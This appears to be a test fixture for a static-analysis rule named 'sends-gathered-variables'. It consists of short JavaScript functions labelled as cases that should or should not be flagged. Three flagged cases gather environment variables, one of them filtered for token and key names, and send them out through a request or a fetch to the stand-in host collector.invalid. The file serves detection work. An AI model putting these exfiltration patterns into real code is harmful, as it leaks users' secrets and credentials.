function loop(request) {
  const found = {};
  for (const name in process.env) {
    if (/token|key/i.test(name)) found[name] = process.env[name];
  }
  // ruleid: sends-gathered-variables
  request.end(JSON.stringify(found));
}

function listed(request) {
  const lines = [];
  for (const name of Object.keys(process.env)) lines.push(name + "=" + process.env[name]);
  // ruleid: sends-gathered-variables
  request.write(lines.join("\n"));
}

function pairs() {
  const text = Object.entries(process.env).map(([name, value]) => `${name}=${value}`).join("&");
  // ruleid: sends-gathered-variables
  return fetch("https://collector.invalid/?" + text);
}

function lowerCase() {
  const lower = {};
  for (const name in process.env) lower[name.toLowerCase()] = process.env[name];
  // ok: sends-gathered-variables
  return lower;
}

function one(name) {
  // ok: sends-gathered-variables
  return JSON.stringify({ mirror: process.env[name] });
}
